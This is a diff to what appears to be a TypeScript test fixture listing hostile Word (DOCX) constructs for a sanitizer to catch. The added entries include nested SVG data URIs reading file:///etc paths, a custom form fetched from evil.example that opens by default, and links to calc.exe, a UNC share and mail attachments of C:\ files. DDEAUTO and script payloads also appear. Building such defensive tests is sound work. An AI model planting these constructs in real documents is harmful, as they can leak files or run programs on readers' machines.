@@ -47,7 +47,14 @@ export const hostileElsewhereDocx: Hostile[] = [
     [`a filling with a plain link to ${address}`, element(`<v:fill href="${address}"/>`)],
     [`a relation that is an address, ${address}`, element(`<a:blip r:link="${address}"/>`)],
     [`a scheme of its data at ${address}`, element(`<sl:schema sl:uri="u" sl:schemaLocation="${address}"/>`)],
-    [`a place within the document at ${address}`, docxWithText(`<w:hyperlink w:docLocation="${address}"/>`)],
+    ...(address === WEB
+      ? []
+      : [
+          [
+            `a place within the document at ${address}`,
+            docxWithText(`<w:hyperlink w:docLocation="${address}"/>`),
+          ] as Hostile,
+        ]),
     [`links that begin with ${address}`, property(`<HyperlinkBase>${address}</HyperlinkBase>`)],
     [
       `a drawing whose addresses begin with ${address}`,
@@ -67,6 +74,23 @@ export const hostileElsewhereDocx: Hostile[] = [
   ['a drawing with styles around something', drawing('<style>@im<g/>port "a.css"</style>')],
   ['a drawing with styles in styles', drawing('<style>@im<style/>port "a.css"</style>')],
   ['a drawing with escapes in its styles', drawing('<style>\\40import "a.css"</style>')],
+  ...['png', 'jpeg', 'gif'].map((label): Hostile => [
+    `a drawing in a drawing, labelled ${label}`,
+    drawing(
+      `<image href="data:image/${label};base64,${Buffer.from(
+        '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/a.png"/></svg>',
+      ).toString('base64')}"/>`,
+    ),
+  ]),
+  ['a drawing filled with one', drawing('<rect fill="url(data:image/png;base64,PHN2Zy8+)"/>')],
+  [
+    'a form that Word opens beside the text',
+    part(
+      'customXml/item1.xml',
+      '<customXsn xmlns="http://schemas.microsoft.com/office/2006/metadata/customXsn"><xsnLocation>https://evil.example/a.xsn</xsnLocation><openByDefault>True</openByDefault></customXsn>',
+      'application/xml',
+    ),
+  ],
   ['a drawing that is none', drawing('<script>alert(1)</script>', '')],
   ['a drawing with a script of no kind', drawing('<script xmlns=""/>')],
   ['a drawing that holds a page', drawing('<foreignObject/>')],
@@ -96,12 +120,17 @@ export const hostileElsewhereDocx: Hostile[] = [
       `<o:instrText xmlns:o="http://schemas.microsoft.com/office/word/${space}">DDEAUTO x</o:instrText>`,
     ),
   ]),
-  ...['/C:/Windows/System32/calc.exe', '%5c%5cevil.example%5cshare', 'mailto:a@example.com?attach=C:\\a'].map(
-    (target): Hostile => [
-      `a link to ${target}`,
-      zip([...docxParts(), relationsPart(relation('hyperlink', target))]),
-    ],
-  ),
+  ...[
+    '/C:/Windows/System32/calc.exe',
+    '%5c%5cevil.example%5cshare',
+    'mailto:a@example.com?attach=C:\\a',
+    'vnd.sun.star.script:1/a',
+    'microsoft.windows.camera:80/',
+    'email:a@example.com?attach=C:\\a',
+  ].map((target): Hostile => [
+    `a link to ${target}`,
+    zip([...docxParts(), relationsPart(relation('hyperlink', target))]),
+  ]),
 ];
 
 const PROGRAM = Buffer.concat([Buffer.from('MZ\u0090\0\u0003\0\0\0', 'latin1'), Buffer.alloc(500, 'A')]);
